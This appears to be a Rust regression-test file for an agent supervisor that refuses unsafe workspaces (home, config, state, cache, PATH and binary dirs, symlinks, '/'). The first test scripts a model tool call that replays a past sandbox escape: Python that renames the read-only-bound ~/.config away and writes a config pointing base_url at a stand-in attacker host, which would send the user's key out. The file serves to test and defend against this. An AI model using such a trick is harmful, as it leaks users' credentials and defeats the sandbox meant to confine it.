//! Workspaces that hold what the supervisor reads back are refused, by
//! every way in, before any process starts: the user's config dir (a home
//! directory as workspace), the state and cache dirs, a directory on the
//! supervisor's `PATH` (one that does not exist yet, a relative one), the
//! supervisor's own binaries, a workspace reached through a symlink, and
//! `/`. The refusal is one line naming what the workspace holds and
//! suggesting a subdirectory; exit 2, `INVALID_INPUT`.
//!
//! The first test is the attack as it got through (issue 32): with the
//! home directory as workspace, a tool renamed `~/.config` away and wrote
//! a config whose `base_url` the next run would have sent the user's key
//! to.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use serde_json::{Value, json};

use super::scripted_model::{ScriptedModel, text_turn, tool_call_turn};
use super::support::*;

/// A fake home: `.config/subagent/config.toml` (the user's), nothing else.
struct Home {
    dir: tempfile::TempDir,
}

/// The user's config as the test writes it: what must survive.
const USER_CONFIG: &str = "# the user's own config\n";

impl Home {
    fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        let config = dir.path().join("home/.config/subagent");
        std::fs::create_dir_all(&config).unwrap();
        std::fs::write(config.join("config.toml"), USER_CONFIG).unwrap();
        std::fs::create_dir_all(dir.path().join("sessions")).unwrap();
        Self { dir }
    }

    fn home(&self) -> PathBuf {
        self.dir.path().join("home")
    }

    fn sessions(&self) -> PathBuf {
        self.dir.path().join("sessions")
    }

    fn config_intact(&self) {
        let config = self.home().join(".config/subagent/config.toml");
        assert_eq!(std::fs::read_to_string(config).unwrap(), USER_CONFIG);
        assert!(!self.home().join(".config.old").exists());
    }
}

/// `command` with HOME set to `home` and every other location variable
/// removed, so the defaults lie in the fake home.
fn in_home(command: &mut Command, home: &Path) {
    command
        .env("HOME", home)
        .env_remove("XDG_CONFIG_HOME")
        .env_remove("XDG_STATE_HOME")
        .env_remove("XDG_CACHE_HOME")
        .env_remove("SUBAGENT_HOME")
        .env_remove("SUBAGENT_CACHE_DIR")
        .env_remove("SUBAGENT_WORKER");
}

/// The refusal: exit 2, `INVALID_INPUT`, one line naming `holds` and
/// suggesting a subdirectory, in the JSON result's error message.
fn assert_refused(out: &Output, holds: &str) -> String {
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "stderr: {stderr}");
    let json: Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("no JSON result ({e}); stderr: {stderr}"));
    assert_eq!(
        json["details"]["error"]["code"], "INVALID_INPUT",
        "{json:#}"
    );
    let message = json["details"]["error"]["message"]
        .as_str()
        .unwrap()
        .to_owned();
    assert_refusal_line(&message, holds);
    message
}

/// One line that names `holds` and says to use a subdirectory (or another
/// directory).
fn assert_refusal_line(message: &str, holds: &str) {
    assert!(!message.contains('\n'), "not one line: {message}");
    assert!(message.contains(holds), "`{holds}` not named: {message}");
    assert!(
        message.contains("subdirectory") || message.contains("directory outside"),
        "no way out suggested: {message}"
    );
}

#[test]
fn a_home_workspace_is_refused_before_a_tool_can_rewrite_the_users_config() {
    let home = Home::new();
    // The attack of issue 32: the config dir is bound read-only, but not
    // its parent, which can be renamed away.
    let code = "import os\n\
                os.rename('.config', '.config.old')\n\
                os.makedirs('.config/subagent')\n\
                open('.config/subagent/config.toml', 'w').write('base_url = \"http://attacker.invalid/v1\"\\n')\n\
                print('rewritten')";
    let model = ScriptedModel::start(vec![
        tool_call_turn("call_attack", "python_execute", &json!({ "code": code })),
        text_turn("done"),
    ]);
    let mut command = model.run_command(&home.home(), &home.sessions());
    in_home(&mut command, &home.home());
    let out = command
        .args(["--tools", "python_execute", "--task", "Try it.", "--json"])
        .output()
        .unwrap();
    assert_refused(&out, ".config/subagent");
    home.config_intact();
    assert!(model.requests().is_empty(), "a model turn was made");
    assert_nothing_runs_in(&home.home());
}

/// `subagent run` with the fixture worker in `workspace`, the fake home's
/// environment plus `env`, from `cwd`.
fn fixture_run(home: &Home, workspace: &Path, cwd: &Path, env: &[(&str, &str)]) -> Output {
    let mut command = fixture_cli(&home.sessions());
    in_home(&mut command, &home.home());
    command
        .arg("--workspace")
        .arg(workspace)
        .args(["--task", "fixture:success", "--json"])
        .envs(env.iter().copied())
        .current_dir(cwd)
        .output()
        .unwrap()
}

/// `PATH` with `first` in front of this process's.
fn path_with(first: &str) -> String {
    format!("{first}:{}", std::env::var("PATH").unwrap_or_default())
}

/// A case: its name, the environment it sets, what the refusal names.
type Case<'a> = (&'a str, Vec<(&'a str, &'a str)>, &'a str);

#[test]
fn state_cache_path_and_binary_dirs_are_refused_whatever_their_spelling() {
    let home = Home::new();
    let root = home.dir.path();
    let ws = root.join("ws");
    std::fs::create_dir_all(&ws).unwrap();
    let ws_text = ws.to_str().unwrap();
    // A config dir reached through a symlink that lies in the workspace:
    // the tool could point the link elsewhere.
    std::fs::create_dir_all(ws.join("real-config")).unwrap();
    std::os::unix::fs::symlink(ws.join("real-config"), root.join("config-link")).unwrap();
    let state = format!("{ws_text}/state");
    let cache = format!("{ws_text}/cache");
    let shims = path_with(&format!("{ws_text}/.pyenv/shims"));
    let relative = path_with("bin");
    let config_link = root.join("config-link");
    let cases: Vec<Case> = vec![
        ("state", vec![("SUBAGENT_HOME", &state)], "state dir"),
        ("cache", vec![("SUBAGENT_CACHE_DIR", &cache)], "cache dir"),
        // Not there yet: a tool could create it.
        ("shim", vec![("PATH", &shims)], ".pyenv/shims"),
        // Relative: found from the supervisor's working directory.
        ("relative", vec![("PATH", &relative)], "on PATH"),
        (
            "linked config",
            vec![("XDG_CONFIG_HOME", config_link.to_str().unwrap())],
            "real-config/subagent",
        ),
    ];
    for (name, env, holds) in cases {
        let out = fixture_run(&home, &ws, &ws, &env);
        let message = assert_refused(&out, holds);
        eprintln!("{name}: {message}");
    }
    // The binaries' own directory.
    let bin_dir = binary("subagent").parent().unwrap().to_owned();
    let out = fixture_run(&home, &bin_dir, root, &[]);
    assert_refused(&out, "subagent");
    // The home reached through a symlink, and the root of everything.
    std::os::unix::fs::symlink(home.home(), root.join("home-link")).unwrap();
    let out = fixture_run(&home, &root.join("home-link"), root, &[]);
    assert_refused(&out, ".config/subagent");
    let out = fixture_run(&home, Path::new("/"), root, &[]);
    assert_refused(&out, "/");
    // Inside the config dir.
    let agents = home.home().join(".config/subagent/agents");
    std::fs::create_dir_all(&agents).unwrap();
    let out = fixture_run(&home, &agents, root, &[]);
    assert_refused(&out, ".config/subagent");
    // A subdirectory that holds none of these runs.
    let project = home.home().join("project");
    std::fs::create_dir_all(&project).unwrap();
    let out = fixture_run(&home, &project, root, &[]);
    assert_exit(&out, 0);
    home.config_intact();
}

#[test]
fn every_way_in_refuses_a_home_workspace() {
    let home = Home::new();
    let ws = home.home();
    // batch: every task refused, none run.
    let tasks = home.dir.path().join("tasks.jsonl");
    std::fs::write(&tasks, "{\"id\":\"t1\",\"task\":\"fixture:success\"}\n").unwrap();
    let mut batch = fixture_command(&["batch"], &home.sessions());
    in_home(&mut batch, &ws);
    let out = batch
        .arg(&tasks)
        .arg("--results")
        .arg(home.dir.path().join("results.jsonl"))
        .arg("--workspace")
        .arg(&ws)
        .output()
        .unwrap();
    let results = std::fs::read_to_string(home.dir.path().join("results.jsonl")).unwrap();
    let line: Value = serde_json::from_str(results.lines().next().unwrap()).unwrap();
    assert_eq!(line["errorCode"], "INVALID_INPUT", "{results}");
    assert_refusal_line(line["error"].as_str().unwrap(), ".config/subagent");
    assert_ne!(out.status.code(), Some(0));

    // serve --stdio: the spawn's error response.
    let mut serve = fixture_command(&["serve", "--stdio"], &home.sessions());
    in_home(&mut serve, &ws);
    serve.arg("--workspace").arg(&ws);
    let request = json!({"id": 1, "method": "spawn", "params": {"task": "fixture:success"}});
    let out = spawn_with_stdin(&mut serve, format!("{request}\n").as_bytes())
        .wait_with_output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let answer: Value = stdout
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .find(|m| m["id"] == 1)
        .unwrap_or_else(|| panic!("no answer: {stdout}"));
    let text = answer.to_string();
    assert!(text.contains("INVALID_INPUT"), "{answer:#}");
    assert!(text.contains(".config/subagent"), "{answer:#}");

    // call: the payload's run is refused the same way.
    let model = ScriptedModel::start(vec![text_turn("done")]);
    let payload = json!({
        "model": "scripted", "provider": "openai-chat", "url": model.base_url(),
        "prompt": "Say hi.", "tool_subset": [],
    });
    let mut call = Command::new(binary("subagent"));
    in_home(&mut call, &ws);
    call.arg("call")
        .arg("--workspace")
        .arg(&ws)
        .arg("--sessions-dir")
        .arg(home.sessions());
    let out = spawn_with_stdin(&mut call, payload.to_string().as_bytes())
        .wait_with_output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains(".config/subagent"), "call said: {stdout}");
    assert!(model.requests().is_empty(), "call reached the model");

    // resume: a run recorded in a good workspace, continued in the home.
    let project = ws.join("project");
    std::fs::create_dir_all(&project).unwrap();
    let model = ScriptedModel::start(vec![text_turn("hello")]);
    let mut first = model.run_command(&project, &home.sessions());
    in_home(&mut first, &ws);
    let first = first
        .args(["--tools", "none", "--task", "Say hello.", "--json"])
        .output()
        .unwrap();
    let first: Value = serde_json::from_slice(&first.stdout).unwrap();
    let run_id = first["details"]["runId"].as_str().unwrap().to_owned();
    let mut resume = model.run_command(&ws, &home.sessions());
    in_home(&mut resume, &ws);
    let out = resume
        .args(["--resume", &run_id, "--task", "And more.", "--json"])
        .output()
        .unwrap();
    assert_refused(&out, ".config/subagent");
    assert_eq!(
        model.requests().len(),
        1,
        "the resumed run reached the model"
    );
    home.config_intact();
    assert_nothing_runs_in(&ws);
}

#[test]
fn a_relative_workspace_runs_python_in_that_directory() {
    // Issue 32: `--workspace w/ws` made every python_execute fail ("the
    // workspace w/ws is not usable"): the worker runs in the workspace,
    // where the relative path names nothing.
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("w/ws");
    std::fs::create_dir_all(&ws).unwrap();
    let sessions = dir.path().join("sessions");
    let code = "import os\nopen('made.txt', 'w').write('here')\nprint(os.getcwd())";
    let model = ScriptedModel::start(vec![
        tool_call_turn("call_py", "python_execute", &json!({ "code": code })),
        text_turn("done"),
    ]);
    let out = model
        .run_command(Path::new("w/ws"), &sessions)
        .current_dir(dir.path())
        .args(["--tools", "python_execute", "--task", "Write.", "--json"])
        .args(["--timeout", "60"])
        .output()
        .unwrap();
    let (_, lines) = checked(&out, 0);
    let result = tool_result(&lines);
    assert_eq!(result["isError"], false, "{result:#}");
    assert_eq!(
        std::fs::read_to_string(ws.join("made.txt")).unwrap(),
        "here"
    );
    // The session header records where it ran, as a full path.
    assert_eq!(
        lines[0]["cwd"].as_str().unwrap(),
        ws.canonicalize().unwrap().to_str().unwrap()
    );
    assert_nothing_runs_in(&ws);
}
